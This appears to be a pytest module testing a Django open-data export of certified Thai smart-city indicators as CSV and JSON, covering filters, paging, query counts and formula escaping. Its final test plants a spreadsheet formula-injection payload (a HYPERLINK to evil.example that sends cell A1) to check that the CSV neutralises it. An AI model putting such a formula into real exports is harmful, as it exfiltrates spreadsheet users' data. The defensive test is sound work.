"""Issue 19, item 5: the indicators of certified cities as open data (/opendata/indicators.csv, .json)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext

from applications.enums import State
from applications.models import PlanIndicator
from monitoring.enums import ReportState
from monitoring.models import AnnualReport, IndicatorResult
from register import cache as register_cache
from register import indicators
from tests.factories import UserFactory
from tests.monitoring.helpers import accepted, report_with
from tests.opendata.test_opendata import city
from tests.paths import bring_to

pytestmark = pytest.mark.django_db


def rows(client, **filters):
    response = client.get("/opendata/indicators.csv", filters)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body[1:])))


def area(code="57", *, name="เมืองทดสอบ", years=(2024, 2025), values=("15", "20"), status="certified", **kwargs):
    """A certified area with an ENV and a MOB indicator (10 → 20 %) and an accepted report each year.

    Built directly (the workflow's own path is in test_values_...): the query-count test needs twenty.
    The last year's report was accepted before the plan's figure was kept (progress_percent empty).
    """
    place = city(code, status=status, day=datetime.date(2023, 11, 9), name_th=name, name_en=f"{name} EN", **kwargs)
    made = [
        PlanIndicator.objects.create(plan=plan, name=f"ตัวชี้วัด {plan.dimension.code}", unit="%",
                                     baseline=Decimal(10), target=Decimal(20), target_year=2027)
        for plan in place.plans.order_by("dimension__order")
    ]
    by = UserFactory()
    for year in years:
        report = AnnualReport.objects.create(
            proposal=place, year=year, state=ReportState.ACCEPTED, created_by=by,
            progress_percent=None if year == years[-1] else Decimal("75.0"),
        )
        IndicatorResult.objects.bulk_create(
            IndicatorResult(report=report, indicator=i, value=None if v is None else Decimal(v))
            for i, v in zip(made, values, strict=False)
        )
    return place


def test_values_progress_and_years_from_the_reports_the_office_accepted(client):
    place = bring_to(State.CERTIFIED, years_ago=1)
    first = place.certified_on.year
    accepted(place, ["15", "20"], year=first)
    accepted(place, ["12.5", None], year=first + 1)
    got = [
        (r["dimension"], r["year"], r["year_be"], r["value"], r["progress_percent"], r["plan_progress_percent"])
        for r in rows(client)
    ]
    assert got == [
        ("ENV", str(first), str(first + 543), "15", "50", "75"),
        ("ENV", str(first + 1), str(first + 544), "12.5", "25", "25"),
        ("MOB", str(first), str(first + 543), "20", "100", "75"),
        ("MOB", str(first + 1), str(first + 544), "", "", "25"),
    ]
    row = rows(client)[0]
    indicator = PlanIndicator.objects.filter(plan__proposal=place).order_by("pk").first()
    assert row["city_id"] == str(place.pk) and row["indicator_id"] == str(indicator.pk)
    # defusedcsv quotes a cell starting with % as it does =, +, -, @ and | (the JSON keeps "%").
    assert (row["indicator"], row["unit"], row["baseline"], row["target"]) == ("ตัวชี้วัด ENV", "'%", "10", "20")
    assert row["target_year_be"] == str(indicator.target_year + 543)
    assert row["city_url"] == f"http://testserver/register/cities/{place.pk}/"
    assert row["dimension_th"] == "สิ่งแวดล้อมอัจฉริยะ"

    data = client.get("/opendata/indicators.json").json()
    assert data["count"] == 1 and data["next"] is None
    (result,) = data["results"]
    assert [p["percent"] for p in result["plan_progress"]] == [75, 25]
    env = result["indicators"][0]
    assert (env["dimension"], env["unit"], env["baseline"], env["target"]) == ("ENV", "%", 10, 20)
    assert [(v["year_be"], v["value"], v["progress_percent"]) for v in env["values"]] == [
        (first + 543, 15, 50), (first + 544, 12.5, 25),
    ]


def test_only_accepted_reports_and_only_certified_areas(client):
    waiting = bring_to(State.CERTIFIED)
    report_with(waiting, ["18", "18"])  # submitted, not accepted: not public
    bring_to(State.PROMOTION_ZONE)  # a zone's plan has indicators too, but it is not certified
    got = rows(client)
    assert {r["city_id"] for r in got} == {str(waiting.pk)}
    assert [(r["dimension"], r["year"], r["value"]) for r in got] == [("ENV", "", ""), ("MOB", "", "")]
    # Read the values, not the text: a timestamp or an id may well contain "18".
    (city_json,) = client.get("/opendata/indicators.json").json()["results"]
    assert [i["values"] for i in city_json["indicators"]] == [[], []]


def test_a_report_accepted_before_figures_were_kept_gets_the_plan_progress_computed(client):
    area(values=("15", "20"), years=(2024, 2025))
    got = {(r["dimension"], r["year"]): r["plan_progress_percent"] for r in rows(client)}
    assert got[("ENV", "2024")] == "75"  # the figure kept
    assert got[("ENV", "2025")] == "75"  # computed: (50 + 100) / 2


def test_the_register_filters_apply(client):
    north = area("57", name="เชียงราย")
    south = area("90", name="สงขลา", status="renewal")
    area("83", name="ภูเก็ตถูกเพิกถอน", status="revoked")
    assert {r["city_id"] for r in rows(client, province="90")} == {str(south.pk)}
    assert {r["city_id"] for r in rows(client, q="เชียงราย")} == {str(north.pk)}
    assert {r["city_status"] for r in rows(client, state="renewal")} == {"renewal"}
    assert {r["city_id"] for r in rows(client, region="north")} == {str(north.pk)}
    # A dimension keeps the areas that claim it and, of their indicators, that dimension's.
    assert {r["dimension"] for r in rows(client, dimension="MOB")} == {"MOB"}
    assert len(rows(client, dimension="MOB")) == 3 * 2
    # The plan's figure still counts every indicator.
    assert {r["plan_progress_percent"] for r in rows(client, dimension="MOB")} == {"75"}
    json_ids = {r["id"] for r in client.get("/opendata/indicators.json", {"province": "57"}).json()["results"]}
    assert json_ids == {north.pk}
    # An unknown value is left out, as on the register's page.
    assert len(rows(client, dimension="XYZ")) == len(rows(client))


def test_json_is_paged_by_area_and_keeps_the_filters(client, monkeypatch):
    monkeypatch.setattr(indicators, "PER_PAGE", 2)
    for code in ("57", "50", "90"):
        area(code)
    first = client.get("/opendata/indicators.json", {"dimension": "ENV"}).json()
    assert (first["count"], first["page"], first["pages"], len(first["results"])) == (3, 1, 2, 2)
    assert first["previous"] is None
    assert "page=2" in first["next"] and "dimension=ENV" in first["next"]
    second = client.get(first["next"].replace("http://testserver", "")).json()
    assert len(second["results"]) == 1 and second["next"] is None and "page=1" in second["previous"]
    ids = [r["id"] for r in first["results"] + second["results"]]
    assert len(set(ids)) == 3


def _queries(client, url):
    register_cache.forget()
    cache.clear()  # the exports are cached: count what building them costs
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(url).status_code == 200
    return len(ctx)


@pytest.mark.parametrize("url", ["/opendata/indicators.csv", "/opendata/indicators.json",
                                 "/opendata/indicators.csv?province=57&dimension=ENV"])
def test_query_count_is_the_same_for_1_and_20_areas(client, url):
    area("57")
    _queries(client, url)  # warm: content types, reference data
    one = _queries(client, url)
    for n in range(19):
        area("57", name=f"เมือง {n}")
    twenty = _queries(client, url)
    assert one == twenty, (one, twenty)
    assert twenty <= 8  # CSV 5, JSON 6 (a page), with filters the filter form's choices
    assert len(rows(client, province="57")) == 20 * 2 * 2


def test_csv_neutralises_formulas_and_json_keeps_the_text(client):
    place = area("57", name="+66 เมือง")
    PlanIndicator.objects.filter(plan__proposal=place).update(
        name='=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', unit="@SUM(1+1)", baseline=Decimal(-5),
    )
    row = rows(client)[0]
    assert row["indicator"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
    assert row["unit"] == "'@SUM(1+1)"
    assert row["city_name_th"] == "'+66 เมือง"
    assert row["baseline"] == "-5"  # a plain negative number is data, not a formula
    result = client.get("/opendata/indicators.json").json()["results"][0]
    assert result["name_th"] == "+66 เมือง"
    assert result["indicators"][0]["name"].startswith("=HYPERLINK(")
